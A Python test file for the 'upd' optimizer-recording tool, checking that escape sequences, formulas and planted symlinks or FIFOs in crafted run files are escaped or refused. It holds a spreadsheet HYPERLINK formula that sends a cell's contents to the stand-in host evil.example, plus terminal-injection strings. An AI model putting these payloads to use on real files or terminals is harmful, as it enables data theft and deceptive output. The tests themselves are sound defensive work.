"""What text and paths from a run file can do: nothing but be shown (docs/reliability.md, "Text from a run file" and
"Output files").

Crafted copies of the Adam sample put escape sequences, newlines and formulas into a parameter's name, the
optimizer's class and torch_version; every command must show them escaped, write them spreadsheet-safe, and never
follow a link planted under an output name. The recorder refuses to write through a symlink, a FIFO swapped in for
a run file cannot hang the reader, and the smaller cases (fixed-length strings, undecodable names, output paths that
cannot be written) each give one line.
"""
from __future__ import annotations

import csv
import json
import os
import threading

import h5py
import numpy as np
import pytest
import torch
from click.testing import CliRunner

import upd
from upd.cli.main import main
from upd.runfile import schema
from upd.safe_text import csv_safe, plot_label, terminal_safe

from tests.reliability.test_hostile_files import OPT, PARAMS, _copy, _set_meta, check_all_commands

EVIL = "fc1.weight\x1b[2J\x1b]0;pwned\x07\r\nFAKE LINE\u202e\x9b31m"
FORMULA = '=HYPERLINK("evil.example?q="&A1,"click")'  # no "/": that would be an HDF5 path
RAW_CONTROLS = ("\x1b", "\x07", "\r", "\x9b", "\u202e")


def _renamed(tmp_path, new_name: str, old: str = "fc1.weight") -> str:
    path = _copy("adam.h5", str(tmp_path))
    with h5py.File(path, "r+") as f:
        f[PARAMS].move(old, new_name)
        _set_meta(f, "/", torch_version="2.13\x1b[31m\u202e")
        _set_meta(f, OPT, **{"class": "torch.optim.Adam\x1b]0;title\x07"})
    return path


def _invoke(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def test_terminal_safe_escapes_every_control_character_visibly():
    assert terminal_safe("fc1.weight") == "fc1.weight"
    assert terminal_safe("a\x1b[2Jb\nc\r\t\x07\x9b\u2028\u202e") == "a\\x1b[2Jb\\nc\\r\\t\\x07\\x9b\\u2028\\u202e"
    assert terminal_safe("\udcff") == "\\udcff"  # an undecodable byte as Python keeps it
    assert terminal_safe("数据.权重") == "数据.权重"  # printable Unicode stays as it is
    assert plot_label("$x$" + "a" * 300).startswith(r"\$x\$") and len(plot_label("a" * 300)) == 80
    assert plot_label("_hidden").strip() == "_hidden" and plot_label("_hidden") != "_hidden"


@pytest.mark.parametrize("cell, safe", [("=1+2", "'=1+2"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("fc1.weight", "fc1.weight")])
def test_csv_safe(cell, safe):
    assert csv_safe(cell) == safe


def test_file_text_reaches_the_terminal_escaped(tmp_path):
    """A name, torch_version and optimizer class holding clear-screen, window-title, carriage-return, newline, bidi
    and C1 sequences: every command prints them as visible escapes, and the newline adds no line of its own."""
    path = _renamed(tmp_path, EVIL)
    with h5py.File(path, "r+") as f:  # a changed update: verify prints the name in its MISMATCH line
        after = f[f"{PARAMS}/{EVIL}/{schema.KIND_PARAM_AFTER}"]
        after[5] = after[5] * 1.5
    outputs = {}
    for args in (("info", "--wide"), ("analyze", "--no-plots", "--wide"), ("verify", "--wide"), ("advise",)):
        code, out, err = _invoke(*args, path)  # --wide: names whole (by default one this long is shortened)
        assert code == (1 if args[0] == "verify" else 0), (args, out, err)
        outputs[args[0]] = out + err
    for command, text in outputs.items():
        for raw in RAW_CONTROLS:
            assert raw not in text, (command, raw)
        if command == "advise":  # no --wide: its table shortens the name in the middle, both ends escaped
            assert "fc1.weight\\x1" in text and "\\u202e\\x9b31m" in text, text
        else:
            assert "\\x1b[2J" in text and "\\x1b]0;pwned\\x07" in text, command
        assert not any(line.startswith("FAKE LINE") for line in text.splitlines()), command
    assert "torch 2.13\\x1b[31m\\u202e" in outputs["info"]
    assert "torch.optim.Adam\\x1b]0;title\\x07" in outputs["info"]
    assert "MISMATCH fc1.weight\\x1b[2J" in outputs["verify"]
    with upd.open_run(path) as run:  # the Python API keeps the real names
        assert EVIL in run.optimizers[0].param_records


def test_json_output_escapes_control_characters(tmp_path):
    path = _renamed(tmp_path, EVIL)
    code, out, _ = _invoke("info", "--json", path)
    assert code == 0 and not any(raw in out for raw in RAW_CONTROLS)
    assert EVIL in [p["name"] for p in json.loads(out)["optimizers"][0]["params"]]


@pytest.mark.slow
def test_plot_labels_are_escaped_and_bounded(tmp_path):
    """A name with control characters, mathtext and 200,000 characters: the plots draw it escaped and cut, and the
    analysis stays fast (four such names took `analyze` 117 s)."""
    path = _copy("adam.h5", str(tmp_path))
    with h5py.File(path, "r+") as f:
        f[PARAMS].move("fc1.weight", "$\\frac{1}{0}$\x1b[2J" + "w" * 200_000)
        f[PARAMS].move("fc2.weight", "_" + "v" * 200_000)
    code, out, err = _invoke("analyze", path, "--out", tmp_path / "plots")
    assert code == 0, err
    assert "\x1b" not in out and (tmp_path / "plots" / "update_to_data.png").stat().st_size > 0


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_formulas_are_neutralised_in_every_csv(tmp_path):
    path = _renamed(tmp_path, FORMULA)
    out = tmp_path / "out"
    code, _, err = _invoke("analyze", path, "--out", out, "--no-plots", "--csv", tmp_path / "ratios.csv")
    assert code == 0, err
    code, _, err = _invoke("verify", path, "--csv", tmp_path / "checks.csv")
    assert code == 0, err
    for written in (out / "summary.csv", tmp_path / "ratios.csv", tmp_path / "checks.csv"):
        cells = _cells(written)
        assert "'" + FORMULA in cells, written
        assert not any(c.startswith(("=", "+", "@")) for c in cells), written
        assert any(c.startswith("-") and c[1:2].isdigit() for c in _cells(tmp_path / "ratios.csv"))  # numbers stay


def test_output_files_replace_planted_links_instead_of_writing_through_them(tmp_path):
    """Symlinks and a hard link planted under the output names (and --csv naming a symlink): the link targets
    outside --out keep their content, and the outputs are regular files in --out."""
    out = tmp_path / "out"
    out.mkdir()
    victims = {name: tmp_path / f"victim-{name}" for name in ("summary.csv", "update_to_data.png", "ratios.csv")}
    for name, victim in victims.items():
        victim.write_text("precious\n")
    os.symlink(victims["summary.csv"], out / "summary.csv")
    os.link(victims["update_to_data.png"], out / "update_to_data.png")
    os.symlink(victims["ratios.csv"], tmp_path / "ratios link.csv")
    os.symlink(tmp_path / "never-created.png", out / "grad_to_data.png")  # dangling: its target must not appear
    code, _, err = _invoke("analyze", _copy("adam.h5", str(tmp_path)), "--out", out, "--csv",
                           tmp_path / "ratios link.csv")
    assert code == 0, err
    for victim in victims.values():
        assert victim.read_text() == "precious\n"
    assert not (tmp_path / "never-created.png").exists()
    for name in ("summary.csv", "update_to_data.png", "grad_to_data.png"):
        assert (out / name).is_file() and not (out / name).is_symlink(), name
    written = tmp_path / "ratios link.csv"
    assert not written.is_symlink() and "update_to_data" in written.read_text()
    assert not [n for n in os.listdir(out) if n.endswith(".tmp")]


@pytest.mark.parametrize("args, words", [
    (("--out", "/proc/upd-test"), "--out /proc/upd-test"),
    (("--out", "/dev/full"), "exists and is not a folder"),
    (("--out", "AFILE"), "exists and is not a folder"),
    (("--no-plots", "--csv", "/dev/full"), "not a regular file"),
    (("--no-plots", "--csv", "/proc/upd-test.csv"), "/proc/upd-test.csv"),
], ids=["out under /proc", "out on /dev/full", "out an existing file", "csv on /dev/full", "csv under /proc"])
def test_output_paths_that_cannot_be_written_give_one_line(tmp_path, args, words):
    afile = tmp_path / "a file"
    afile.write_text("x")
    args = [str(afile) if a == "AFILE" else a for a in args]
    words = str(afile) if words == "AFILE" else words
    code, out, err = _invoke("analyze", _copy("adam.h5", str(tmp_path)), *args)
    assert code == 2 and len(err.splitlines()) == 1 and err.startswith("upd: error: ") and words in err, err
    assert "UPD_DEBUG" not in err and "Usage" not in err


def test_verify_csv_on_a_device_gives_one_line(tmp_path):
    code, _, err = _invoke("verify", _copy("adam.h5", str(tmp_path)), "--csv", "/dev/full")
    assert code == 2 and err.startswith("upd: error: /dev/full") and len(err.splitlines()) == 1, err


@pytest.mark.parametrize("dangling", [False, True])
def test_the_recorder_never_writes_through_a_symlink(tmp_path, dangling):
    """overwrite=True replaces a file, never what a link points to: a symlink at the path is refused before the
    first step (FileExistsError, like an existing file without overwrite=True), and its target is left alone."""
    target = tmp_path / "elsewhere.txt"
    if not dangling:
        target.write_text("precious\n")
    link = tmp_path / "run.h5"
    os.symlink(target, link)
    model = torch.nn.Linear(3, 2)
    opt = torch.optim.SGD(model.parameters(), lr=0.1)
    with pytest.raises(FileExistsError, match="symbolic link"):
        upd.record(str(link), model, opt, overwrite=True, every=1)
    assert (target.read_text() == "precious\n") if not dangling else not target.exists()
    assert link.is_symlink()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_swapped_in_after_the_check_does_not_hang(tmp_path, monkeypatch):
    """The path passes the check as a run file, then is a FIFO when opened (the race that made open_run block in
    os.open 3 times in 2,500 tries): the reader opens without blocking and refuses what it opened."""
    import upd.runfile.reader as reader

    fifo = tmp_path / "swapped.h5"
    os.mkfifo(fifo)
    monkeypatch.setattr(reader, "check_path", lambda path: None)  # the check saw a run file here
    outcome = []

    def open_it():
        try:
            upd.open_run(str(fifo))
        except upd.RunFileError as exc:
            outcome.append(str(exc))

    thread = threading.Thread(target=open_it, daemon=True)
    thread.start()
    thread.join(20)
    if thread.is_alive():  # release the blocked open so the test process can end, then fail
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        thread.join(5)
        pytest.fail("open_run blocked on a FIFO")
    assert outcome and "not a regular file" in outcome[0]


def test_fixed_length_string_hparams_are_read_everywhere(tmp_path):
    """records/hparams written as fixed-length strings holding the same JSON (another tool's writer): every command
    reads it (verify used to read the bytes as a variable-length string reference: 'claims a string of 1629649755
    bytes')."""
    path = _copy("adam.h5", str(tmp_path))
    hparams = schema.RECORD_TABLE.at(schema.HPARAMS, k=0)
    with h5py.File(path, "r+") as f:
        values = [v.encode() for v in f[hparams].asstr()[()]]
        del f[hparams]
        f.create_dataset(hparams, data=np.array(values, dtype=f"S{max(map(len, values))}"))
    assert check_all_commands(path, {"info": {0}, "analyze": {0}, "verify": {0}}) == \
        {"info": 0, "analyze": 0, "verify": 0}


@pytest.mark.parametrize("where", ["parameter", "optimizer"])
def test_undecodable_names_say_so(tmp_path, where):
    path = _copy("adam.h5", str(tmp_path))
    with h5py.File(path, "r+") as f:
        if where == "parameter":
            f[PARAMS].move("fc1.bias", b"fc1.\xff")
        else:
            f[schema.OPTIMIZERS].move("0", b"\xff0")
    check_all_commands(path, words=("is not valid UTF-8", "\\xff"))


@pytest.mark.slow
def test_names_with_a_slash_or_a_bar_are_stored_reversibly(tmp_path):
    """'a/b' cannot be an HDF5 group name ('/' separates path components): it used to be stored as 'a|b', and a real
    'a|b' then as 'a|b#1'. The group name now escapes '/' and '%' (schema.param_key) and the reader shows both names
    as they were recorded; lookups, analysis and verification use them."""
    path = str(tmp_path / "names.h5")
    torch.manual_seed(0)
    model = torch.nn.Module()
    names = ["a/b", "a|b", "50%/c%2F"]
    for name in names:
        model.register_parameter(name, torch.nn.Parameter(torch.randn(4, 3)))
    opt = torch.optim.Adam(model.parameters(), lr=1e-2)
    with upd.record(path, model, opt, every=1):
        for _ in range(3):
            opt.zero_grad()
            sum((p ** 2).sum() for p in model.parameters()).backward()
            opt.step()
    with h5py.File(path, "r") as f:
        assert sorted(f[PARAMS]) == sorted(["a%2Fb", "a|b", "50%25%2Fc%252F"])
    with upd.open_run(path) as run:
        assert list(run.optimizers[0].param_records) == names
        assert run.param("a/b").read("param", 0).shape == (4, 3)
    code, out, _ = _invoke("info", path)
    assert code == 0 and all(f"  {n} " in out for n in names), out
    assert check_all_commands(path, {"info": {0}, "analyze": {0}, "verify": {0}}) == \
        {"info": 0, "analyze": 0, "verify": 0}
